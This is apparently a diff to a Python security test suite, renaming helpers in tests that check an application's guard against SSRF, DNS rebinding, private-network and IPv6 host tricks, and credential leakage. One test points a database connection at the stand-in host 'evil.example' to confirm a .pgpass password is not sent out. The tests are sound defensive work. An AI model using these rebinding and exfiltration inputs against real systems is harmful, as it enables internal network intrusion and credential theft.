@@ -56,11 +56,11 @@ async def test_an_address_with_two_readings_is_not_asked(
     }
     monkeypatch.setenv("ATTACKED_NAMES", json.dumps(names))
     bind(victim, "good.example", "press.example", "localhost")
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         said = await attack.api(endpoint, headers={"Authorization": "Bearer ${KEY}"})
     assert said.is_error
-    assert not network.arrived(VALUE)
+    assert not network.requests_carrying(VALUE)
     assert not network.reached
 
 
@@ -69,7 +69,7 @@ async def test_a_database_is_looked_for_where_the_guard_looked(
     connection: str, victim: Victim, network: Network
 ) -> None:
     bind(victim, "good.example", "localhost")
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         said = await attack.source(
             type="database", connection=connection, query="select 1", retries=0, connect_timeout_seconds=3
@@ -84,7 +84,7 @@ async def test_a_model_is_asked_for_at_no_address_with_two_readings(
 ) -> None:
     bind(victim, "good.example")
     address = WEB["a backslash before the other host"]
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         victim.plant(victim.inbox / "rows.csv", "text\n" + "".join(f"letter number {n}\n" for n in range(30)))
         await attack.file(victim.inbox / "rows.csv")
@@ -101,7 +101,7 @@ async def test_a_model_is_asked_for_at_no_address_with_two_readings(
                 confirm=True,
                 settings={"model": "m", "base_url": address, "api_key": "${KEY}"},
             )
-    assert not network.arrived(VALUE)
+    assert not network.requests_carrying(VALUE)
     assert not network.reached
 
 
@@ -134,7 +134,7 @@ async def test_a_password_of_the_environment_or_a_file_goes_to_no_database(
     file = victim.home / ".pgpass"
     file.write_text(f"*:*:*:*:{VALUE}\n", encoding="utf-8")
     file.chmod(0o600)
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await attack.source(
             type="database", connection="postgresql://me@evil.example:5432/db", query="select 1", retries=0
@@ -153,7 +153,7 @@ async def test_a_database_whose_name_leads_elsewhere_the_next_time_is_not_reache
 ) -> None:
     # The first looks are the guard's, in the server and in the job; the next would be the driver's.
     monkeypatch.setenv("ATTACKED_NAMES", json.dumps({**NAMES, "rebinding.example": ["8.8.8.8"] * 2 + ["10.0.0.5"]}))
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         await attack.source(
             type="database", connection=f"{scheme}://me@rebinding.example/db", query="select 1", retries=0
@@ -173,7 +173,7 @@ async def test_rows_do_not_leave_by_a_name_that_was_near_when_it_was_looked_up(
         return [(socket.AF_INET, socket.SOCK_STREAM, 6, "", (next(looks), int(port or 0)))]
 
     monkeypatch.setattr(socket, "getaddrinfo", changing)
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create(constraints={"privacy": "on-premise"})
         said = await attack("try_model", task="mails", model="m", url="http://rebinding.example", text="hello")
     assert said.is_error
@@ -187,7 +187,7 @@ async def test_rows_do_not_leave_by_a_name_that_was_near_when_it_was_looked_up(
 async def test_a_machine_in_a_private_network_is_not_looked_for_without_the_person(
     host: str, victim: Victim, network: Network
 ) -> None:
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         said = await attack("set_up", what="machine", name="box", settings={"host": host}, confirm=True)
         assert said.is_error
         assert not network.reached
@@ -202,7 +202,7 @@ async def test_a_machine_that_the_persons_own_ssh_files_name_is_asked(victim: Vi
     config = victim.home / ".ssh" / "config"
     config.parent.mkdir()
     config.write_text("Host box\n  HostName 10.0.0.5\n", encoding="utf-8")
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack("set_up", what="machine", name="box", settings={"host": "box"})
     assert {*network.reached} == {"10.0.0.5"}
 
@@ -219,7 +219,7 @@ async def test_a_machine_that_the_persons_own_ssh_files_name_is_asked(victim: Vi
     ],
 )
 async def test_no_writing_in_ipv6_leads_inside(host: str, victim: Victim, network: Network) -> None:
-    async with victim.attacked() as attack:
+    async with victim.attack() as attack:
         await attack.create()
         assert (await attack.api(f"http://{host}/rows")).is_error
         assert (await attack("try_model", task="mails", model="m", url=f"http://{host}", text="x")).is_error
